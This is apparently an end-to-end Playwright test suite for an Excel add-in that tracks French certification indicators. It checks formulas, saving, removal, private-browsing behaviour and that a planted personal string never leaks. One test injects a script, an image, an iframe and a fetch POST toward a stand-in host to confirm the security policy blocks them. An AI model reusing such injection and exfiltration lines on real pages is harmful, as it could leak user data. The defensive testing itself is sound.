/**
 * The main path as a trainer takes it, in an installed browser, on the built bundles: open, activate, type, see
 * pane, highlight and formulas follow, generate, save, reopen, remove. The files saved are compared part by part.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, FrameLocator, Page } from "playwright-core";
import { compareWorkbooks } from "../support/compare/compare";
import { launchBrowser, openPage, startWorkbench, type Workbench } from "../support/workbench";

const SAMPLE = path.resolve(__dirname, "../../assets/samples/atelier-marjolaine.xlsx");
const PLAIN = path.resolve(__dirname, "../workbooks/planning-des-salles.xlsx");

const DIST = path.resolve(__dirname, "../../dist");
const OFFICE_JS = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const OFFICE_PACKAGE = path.resolve(__dirname, "../../node_modules/@microsoft/office-js/dist");

/** Stands for anything personal that a cell may hold. */
const SECRET = "Solène-Kerguélen-0612345678";

let workbench: Workbench;
let browser: Browser;

beforeAll(async () => {
  workbench = await startWorkbench();
  browser = await launchBrowser();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await workbench?.stop();
});

/** The page with a workbook open in it, ready. */
async function opened(
  file: string,
  before?: (page: Page) => Promise<unknown>,
): Promise<{ page: Page; pane: FrameLocator; problems: string[]; said: string[] }> {
  const { page, problems, said } = await openPage(browser, `${workbench.address}?file=${file}`, before);
  await page.evaluate(() => window.__workbench.ready);
  return { page, pane: page.frameLocator("iframe"), problems, said };
}

const cell = (page: Page, sheet: string, address: string) =>
  page.evaluate(
    async ([name, at]) => {
      await window.__workbench.settled();
      return window.__workbench.getCell(name as string, at as string)?.value ?? null;
    },
    [sheet, address],
  );

const sheetNames = (page: Page) =>
  page.evaluate(() => window.__workbench.book?.data.sheets.map((sheet) => sheet.name) ?? []);

const type = (page: Page, sheet: string, address: string, text: string) =>
  page.evaluate(
    ([name, at, typed]) => window.__workbench.setCell(name as string, at as string, typed as string),
    [sheet, address, text],
  );

/** What `read` gives once `wanted` holds; the last value when it never does, for the assertion to show. */
async function until<T>(read: () => Promise<T>, wanted: (value: T) => boolean): Promise<T> {
  let value = await read();
  for (const end = Date.now() + 120_000; !wanted(value) && Date.now() < end; value = await read())
    await new Promise((resolve) => setTimeout(resolve, 200));
  return value;
}

const saved = async (page: Page): Promise<Uint8Array> =>
  Uint8Array.from(await page.evaluate(() => Array.from(window.__workbench.save())));

test("her table becomes a live tracker, and gives her workbook back when it is removed", async () => {
  const { page, pane, problems, said } = await opened("atelier-marjolaine.xlsx");

  await pane.getByText("22 indicateurs.").waitFor({ timeout: 120_000 });
  await pane.getByText("Je n’ai rien modifié.").waitFor();
  expect(compareWorkbooks(readFileSync(SAMPLE), await saved(page))).toEqual([]);

  await pane.getByRole("button", { name: "Voir où j’en suis" }).click();
  await pane.getByText("indicateurs prouvés").waitFor();
  expect(await pane.locator("main").innerText()).toMatch(/17\s*\/\s*22/);

  await type(page, "Suivi", "I2", "=RNQ.STATUS()");
  await type(page, "Suivi", "I3", "=RNQ.SCORE(B4:G26;7)");
  await type(page, "Suivi", "I4", "=RNQ.EVALUATE(B24;E24;F24)");
  expect(
    await until(
      () => cell(page, "Suivi", "I2"),
      (text) => String(text).includes("17 sur 22"),
    ),
  ).toContain("17 sur 22");
  const before = await cell(page, "Suivi", "I3");
  expect(await cell(page, "Suivi", "I4")).toBe("En cours");

  await page.getByRole("button", { name: "Surligner les preuves manquantes" }).click();
  await pane.getByText("surligné").first().waitFor();

  // A text of hers that must be found in no log and no storage of the browser, whatever is done below.
  const proof = String(await cell(page, "Suivi", "F24"));
  await type(page, "Suivi", "F24", `${proof} ${SECRET}`);

  // One edit of hers: pane, live cell and calculated cells follow.
  await type(page, "Suivi", "E24", "OK");
  expect(
    await until(
      async () => (await pane.locator("main").innerText()).replace(/\s+/g, " "),
      (text) => text.includes("18 / 22"),
    ),
  ).toContain("18 / 22");
  expect(
    await until(
      () => cell(page, "Suivi", "I2"),
      (text) => String(text).includes("18 sur 22"),
    ),
  ).toContain("18 sur 22");
  expect(await cell(page, "Suivi", "I4")).toBe("Prouvé");
  expect(await cell(page, "Suivi", "I3")).not.toBe(before);

  await page.getByRole("button", { name: "Synthèse avant audit" }).first().click();
  expect(
    await until(
      () => sheetNames(page),
      (names) => names.includes("Synthèse avant audit"),
    ),
  ).toContain("Synthèse avant audit");
  await pane.getByText("« Synthèse avant audit »").first().waitFor();

  // The picture of her journey: two files to keep, and a sheet.
  await pane.getByRole("tab", { name: "Parcours" }).click();
  const kept = async (button: string) => {
    const [download] = await Promise.all([page.waitForEvent("download"), pane.locator(button).click()]);
    return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
  };
  const [svg, png] = [await kept("#save-svg"), await kept("#save-png")];
  expect([svg.name, png.name].map((name) => path.extname(name))).toEqual([".svg", ".png"]);
  expect(svg.bytes.toString()).toMatch(/^<svg [^>]*role="img"><title>Parcours/);
  // The signature of a PNG, then its width: twice that of the drawing.
  expect([png.bytes.subarray(1, 4).toString(), png.bytes.readUInt32BE(16)]).toEqual(["PNG", 2 * 1568]);
  await pane.locator("#insert-picture").click();
  const images = () =>
    page.evaluate(
      () =>
        window.__workbench.book?.data.sheets.flatMap((sheet) =>
          sheet.images.map(({ altText }) => [sheet.name, altText]),
        ) ?? [],
    );
  expect(await until(images, (found) => found.length > 0)).toEqual([
    ["Image du parcours", expect.stringMatching(/^Parcours.*8.étapes.*1\. Premier contact, indicateurs 1, 2/)],
  ]);

  // She takes back her own edit and her formulas; then everything of ours goes, in the saved and reopened file.
  await type(page, "Suivi", "E24", "en cours");
  await type(page, "Suivi", "F24", proof);
  for (const address of ["I2", "I3", "I4"]) await type(page, "Suivi", address, "");
  const bytes = await saved(page);
  expect(compareWorkbooks(readFileSync(SAMPLE), bytes)).not.toEqual([]);
  await page.evaluate(
    (content) => window.__workbench.openBytes(Uint8Array.from(content), "rouvert.xlsx"),
    Array.from(bytes),
  );
  await pane.getByText("indicateurs prouvés").waitFor({ timeout: 120_000 });

  await page.getByRole("button", { name: "Retirer RNQ du classeur" }).click();
  await pane
    .getByRole("button", { name: /Retirer/ })
    .last()
    .click();
  expect(
    await until(
      () => sheetNames(page),
      (names) => names.length === 3,
    ),
  ).toEqual(["Suivi", "Registre", "Parcours"]);
  expect(
    await until(
      async () => compareWorkbooks(readFileSync(SAMPLE), await saved(page)),
      (differences) => differences.length === 0,
    ),
  ).toEqual([]);
  expect(problems).toEqual([]);
  expect(said.filter((line) => line.includes(SECRET))).toEqual([]);
  expect(
    await pane
      .locator("body")
      .evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])),
  ).not.toContain(SECRET);
}, 240_000);

test("a file that cannot be read is told in French and leaves the open one alone", async () => {
  const { page } = await opened("atelier-marjolaine.xlsx");
  const read = await page.evaluate(() =>
    window.__workbench.openBytes(new TextEncoder().encode("Ceci n’est pas un classeur"), "notes.xlsx"),
  );
  expect(read).toBe(false);
  await page.getByText("notes.xlsx", { exact: false }).first().waitFor();
  expect(await page.evaluate(() => window.__workbench.book?.data.fileName)).toBe("atelier-marjolaine.xlsx");
}, 120_000);

test("a workbook without a tracker is said to have none, and stays as it is; what the policy forbids is a problem", async () => {
  const { page, pane, problems, said } = await opened("planning-des-salles.xlsx");
  await pane
    .getByText(/aucun tableau/i)
    .first()
    .waitFor({ timeout: 120_000 });
  await page.getByRole("button", { name: "Synthèse avant audit" }).first().click();
  await pane
    .getByText(/rien n’a été|Rien n’a été/)
    .first()
    .waitFor();
  expect(compareWorkbooks(readFileSync(PLAIN), await saved(page))).toEqual([]);
  expect(problems).toEqual([]);

  // Breaches planted in the pane: each is refused, and would have failed the tests of this file.
  await pane.locator("body").evaluate((body) => {
    const script = document.createElement("script");
    script.textContent = "window.breached = true";
    const picture = new Image();
    picture.src = "https://exemple.test/suivi.png";
    const frame = document.createElement("iframe");
    frame.src = "https://exemple.test/";
    body.append(script, picture, frame);
    void fetch("https://exemple.test/", { method: "POST", body: "texte" }).catch(() => undefined);
    console.info("Un texte qui serait trouvé");
  });
  const refused = await until(
    async () => problems.filter((problem) => problem.startsWith("refused by policy")),
    (found) => found.length >= 4,
  );
  expect(refused.map((problem) => problem.split(" ")[3]).sort()).toEqual([
    "connect-src",
    "frame-src",
    "img-src",
    "script-src-elem",
  ]);
  expect(await pane.locator("body").evaluate(() => "breached" in window)).toBe(false);
  expect(said).toContain("Un texte qui serait trouvé");
}, 120_000);

/** What a private window or a strict setting does to a page that asks for its storage. */
const withoutStorage = (page: Page) =>
  page.addInitScript(() => {
    if (window === window.top) return;
    for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
      Object.defineProperty(window, name, {
        get: () => {
          throw new DOMException("refused", "SecurityError");
        },
      });
    }
  });

test("a browser that refuses its storage runs the pane; it keeps to 320 pixels without scrolling sideways", async () => {
  const { page, pane } = await opened("atelier-marjolaine.xlsx", withoutStorage);
  await pane.getByRole("button", { name: "Voir où j’en suis" }).click({ timeout: 120_000 });
  await pane.getByText("indicateurs prouvés").waitFor();
  expect(
    await pane.locator("body").evaluate(() => {
      try {
        return String(localStorage);
      } catch (error) {
        return (error as Error).name;
      }
    }),
  ).toBe("SecurityError");
  await page
    .locator("iframe")
    .evaluate((frame) => Object.assign((frame as HTMLElement).style, { width: "320px", minWidth: "320px" }));
  const overflow = await pane
    .locator("body")
    .evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
  if (process.env.RNQ_PICTURES) {
    mkdirSync(process.env.RNQ_PICTURES, { recursive: true });
    await page.screenshot({ path: path.join(process.env.RNQ_PICTURES, "atelier.png") });
  }
}, 120_000);

test("its files work from any static server, under any path; opened alone they say where they belong", async () => {
  const base = "/un/autre/chemin/";
  const missing: string[] = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? "/", "http://localhost");
    const file = path.join(DIST, pathname.slice(base.length));
    if (!pathname.startsWith(base) || !existsSync(file)) {
      if (pathname !== "/favicon.ico") missing.push(pathname);
      return void response.writeHead(404).end();
    }
    response
      .writeHead(200, {
        "Content-Type":
          { ".html": "text/html", ".js": "text/javascript" }[path.extname(file)] ?? "application/octet-stream",
      })
      .end(readFileSync(file));
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  const origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  const { page, problems } = await openPage(browser, `${origin}${base}taskpane.html`, async (opening) => {
    // Microsoft's address, answered from its own package.
    await opening.route(`${OFFICE_JS}**`, (route) =>
      route.fulfill({
        path: path.join(OFFICE_PACKAGE, new URL(route.request().url()).pathname.replace("/lib/1/hosted/", "")),
      }),
    );
  });
  await page.getByText("RNQ s’ouvre dans Excel").waitFor({ timeout: 120_000 });
  // What the pane would load later lies beside it too.
  const chunks = readdirSync(DIST).filter((name) => /\.[0-9a-f]{8}\.js$/.test(name));
  expect(chunks.length).toBeGreaterThan(3);
  expect(
    await page.evaluate((names) => Promise.all(names.map((name) => fetch(name).then(({ status }) => status))), chunks),
  ).toEqual(chunks.map(() => 200));
  expect(missing).toEqual([]);
  expect(problems.filter((problem) => !problem.startsWith(`outside request: ${OFFICE_JS}`))).toEqual([]);
  await page.close();
  server.closeAllConnections();
  await new Promise((closed) => server.close(closed));
}, 240_000);
